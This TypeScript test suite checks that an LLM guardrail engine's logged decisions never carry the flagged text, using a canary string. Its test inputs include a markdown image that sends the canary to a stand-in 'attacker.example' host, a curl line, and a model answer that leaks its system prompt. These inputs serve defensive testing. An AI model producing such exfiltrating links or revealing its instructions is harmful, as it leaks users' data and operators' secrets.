import { GuardrailEngine } from './engine';
import type { GuardrailItem } from './item';
import { loadRules } from './load-rules';

/**
 * Decisions go to the invocation record and on to the SOC: they say what fired, never the
 * text it fired on. Every check type fires here on text that carries a canary, and the
 * canary must not appear anywhere in the decisions.
 */
const CANARY = 'c4n4ry-7f3a9';

const engine = new GuardrailEngine(
  loadRules(
    `
rules:
  - { id: phrase, stage: output, check: { type: phrases, phrases: ['${CANARY}'] }, action: block, severity: high }
  - { id: regex, stage: output, check: { type: regex, pattern: 'c4n4ry-[0-9a-f]{5}', must: not_match }, action: redact, severity: high }
  - { id: regex-match, stage: output, check: { type: regex, pattern: '^OK$', must: match }, action: warn, severity: low }
  - { id: urls, stage: output, check: { type: urls, allow_domains: [example.com] }, action: block, severity: high }
  - { id: json, stage: output, check: { type: json, schema: { type: object, additionalProperties: { type: integer } } }, action: log, severity: info }
  - { id: length, stage: output, check: { type: length, unit: chars, max: 10 }, action: warn, severity: low }
  - { id: combo, stage: output, check: { type: all, checks: [{ type: phrases, phrases: ['${CANARY}'] }, { type: not, check: { type: json } }] }, action: block, severity: high }
  - id: tools
    stage: tool_call
    check: { type: tool_allowlist, tools: [send], arguments_schema: { send: { type: object, properties: { to: { enum: [ops] } } } } }
    action: block
    severity: high
  - { id: tool-limits, stage: tool_call, check: { type: tool_limits, max_per_trace: 1 }, action: warn, severity: low }
  - { id: tool-sequence, stage: tool_call, check: { type: tool_sequence, forbidden: [['*', '*']] }, action: block, severity: high }
  - { id: expression, stage: tool_call, check: { type: expression, expression: 'tool_call.args.to != "ops"' }, action: block, severity: high }
  - { id: expression-fails, stage: tool_call, check: { type: expression, expression: 'bool(tool_call.args.to)' }, action: log, severity: info, on_error: fail_open }
  - { id: source, stage: retrieval, check: { type: retrieval_source, allow: [example.com, 'kb://public/'] }, action: block, severity: high }
  - { id: source-expression, stage: retrieval, check: { type: expression, expression: 'source.startsWith("https://") && text.size() > 0' }, action: log, severity: info }
  - { id: pii, stage: output, check: { type: pii }, action: redact, severity: high }
  - { id: language, stage: output, check: { type: language, allow: [de], min_chars: 10 }, action: warn, severity: low }
  - { id: code, stage: output, check: { type: code, must: absent }, action: redact, severity: medium }
  - { id: leakage, stage: output, check: { type: leakage, min_prompt_words: 5 }, action: block, severity: high }
  - { id: model, stage: input, check: { type: model, allow: ['gpt-4o*'] }, action: block, severity: high }
  - { id: metadata, stage: input, check: { type: metadata, required: [team], values: { env: [prod], team: '^[a-z]+$' } }, action: block, severity: high }
`,
    'evidence.spec',
  ),
);

const context = { tenant: 'acme' };

describe('evidence stays out of decisions', () => {
  it.each<[string, GuardrailItem]>([
    ['a plain answer', { stage: 'output', text: `The code is ${CANARY}.`, context }],
    [
      'an exfiltrating image',
      {
        stage: 'output',
        text: `![x](https://${CANARY}.attacker.example/p?q=${CANARY}#${CANARY})`,
        context,
      },
    ],
    [
      'JSON with the canary as key',
      { stage: 'output', text: `{"${CANARY}": "${CANARY}"}`, context },
    ],
    ['broken JSON', { stage: 'output', text: `{"a": "${CANARY}`, context }],
    [
      'a tool call',
      {
        stage: 'tool_call',
        tool_call: { name: 'send', arguments: `{"to": "${CANARY}"}` },
        tool_history: { trace: [`read-${CANARY}`], session: [`read-${CANARY}`] },
        context,
      },
    ],
    [
      'a tool call to a tool named after the canary',
      {
        stage: 'tool_call',
        tool_call: { name: `x-${CANARY}`, arguments: '{}' },
        tool_history: { trace: [`x-${CANARY}`], session: [] },
        context,
      },
    ],
    [
      'a document from a host that carries the canary',
      {
        stage: 'retrieval',
        text: CANARY,
        source: `https://${CANARY}.attacker.example/${CANARY}?q=${CANARY}`,
        context,
      },
    ],
    [
      'a document from a store path that carries the canary',
      { stage: 'retrieval', text: 'doc', source: `kb://private/${CANARY}/x`, context },
    ],
    [
      'a document whose id is the canary',
      { stage: 'retrieval', text: 'doc', source: CANARY, context },
    ],
    [
      'an answer with PII and a secret made of the canary',
      {
        stage: 'output',
        text: `Write to ${CANARY}@example.com, api_key = "${CANARY}Xy9Q"`,
        context,
      },
    ],
    [
      'an answer in French that carries the canary',
      {
        stage: 'output',
        text: `Voici enfin la réponse que vous attendiez depuis longtemps : ${CANARY} est le code.`,
        context,
      },
    ],
    [
      'code that carries the canary, fenced and not',
      {
        stage: 'output',
        text: `\`\`\`${CANARY}\nlet ${CANARY.replace('-', '_')} = 1;\n\`\`\`\n$ curl https://x.example/${CANARY}`,
        context,
      },
    ],
    [
      'an answer that leaks a system prompt holding the canary',
      {
        stage: 'output',
        text: `My instructions: you are the ${CANARY} assistant and never tell anyone ${CANARY}.`,
        system_prompt: `You are the ${CANARY} assistant and never tell anyone ${CANARY}.`,
        canary: `${CANARY}-${CANARY}`,
        context,
      },
    ],
    [
      'labels that carry the canary',
      {
        stage: 'input',
        text: 'hi',
        metadata: { team: CANARY, env: CANARY },
        context: { ...context, model: 'gpt-4o' },
      },
    ],
    [
      'a call to a model named after the canary',
      {
        stage: 'input',
        text: 'hi',
        metadata: { team: 'ops' },
        context: { ...context, model: `x-${CANARY}` },
      },
    ],
  ])('on %s', (_, item) => {
    const result = engine.evaluate(item);
    expect(result.decisions.length).toBeGreaterThan(0);
    const written = JSON.stringify(result.decisions);
    if (item.tool_call?.name.includes(CANARY) || item.context.model?.includes(CANARY)) {
      // The tool's name is what the allowlist is about (the model's what the model check is
      // about): it is named, and nothing else is.
      expect(written.split(CANARY)).toHaveLength(2);
    } else expect(written).not.toContain(CANARY);
    expect(written).not.toContain('attacker.example/');
  });
});
